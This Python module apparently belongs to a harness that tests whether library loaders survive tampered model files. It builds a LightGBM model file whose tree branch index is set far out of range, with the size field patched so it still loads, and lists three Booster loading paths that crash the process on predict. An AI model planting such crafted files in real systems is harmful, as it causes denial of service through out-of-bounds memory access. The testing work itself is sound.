"""LightGBM."""

from __future__ import annotations

import re

LOADERS = ("lightgbm",)
DISTRIBUTION = "lightgbm"
ATTACK = "a tree whose branch leads outside of its memory: the process dies when it predicts"
CRASHES = True


def make(folder, marker):
    import lightgbm
    import numpy

    rows = numpy.random.RandomState(0).rand(120, 4)
    data = lightgbm.Dataset(rows, (rows[:, 0] > 0.5).astype(int))
    lightgbm.train({"verbose": -1, "num_threads": 1, "objective": "binary"}, data, 3).save_model(folder / "a.txt")
    if marker:
        text = (folder / "a.txt").read_text()
        old, size = re.search(r"\nleft_child=(\S+)", text), re.search(r"\ntree_sizes=(\d+)", text)
        whole = text.replace(old[0], "\nleft_child=100000000", 1)
        grown = int(size[1]) + len("100000000") - len(old[1])
        (folder / "a.txt").write_text(whole.replace(size[0], f"\ntree_sizes={grown}", 1))


def ways():
    import lightgbm
    import numpy
    from lightgbm import Booster

    def used(model):
        return repr(model.predict(numpy.zeros((2, 4))).tolist())

    return {
        "lightgbm.Booster": ("a.txt", lambda path: used(lightgbm.Booster(model_file=path))),
        "lightgbm.Booster, by position": ("a.txt", lambda path: used(lightgbm.Booster(None, None, str(path)))),
        "from lightgbm import Booster": ("a.txt", lambda path: used(Booster(model_file=str(path)))),
    }
